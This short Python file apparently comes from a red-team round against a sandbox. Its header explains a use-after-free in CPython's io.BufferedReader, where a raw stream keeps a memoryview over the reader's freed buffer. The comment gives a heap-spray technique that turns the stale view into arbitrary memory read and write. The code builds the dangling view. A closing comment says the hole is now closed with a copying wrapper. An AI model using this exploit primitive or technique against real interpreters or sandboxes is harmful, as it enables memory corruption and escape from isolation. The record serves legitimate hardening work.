# Red team round 20 (on reach, CPython gh-60198): io.BufferedReader hands its raw stream's readinto a memoryview made by
# PyMemoryView_FromBuffer over its own PyMem buffer (no owner object, no export count). A raw readinto
# that keeps the view keeps a writable window on the buffer after the reader is freed. With buffer_size
# 56 the freed block is in the small-object class of a bytearray object (56 bytes); a sprayed empty
# bytearray lands there, the view writes its ob_size (offset 16) to 2**62, and as an empty bytearray's
# data pointer is NULL, `mem[x]` reads address x. ob_size is set back to 0 afterwards (no crash at exit). Then _stale_view.py.
# Closed: every raw stream of a buffered reader, writer or random file is seen through _r2e_kernel.CopyingStream
# (readinto into a bytearray of its own, copied; write of a copy), each stream object is initialised once.
import io

KEPT = []


class Raw(io.RawIOBase):
    def readable(self):
        return True

    def readinto(self, view):
        KEPT.append(view)
        return 0


def stale_view():
    r = io.BufferedReader(Raw(), buffer_size=56)
    r.read(1)
    del r
    return KEPT.pop()
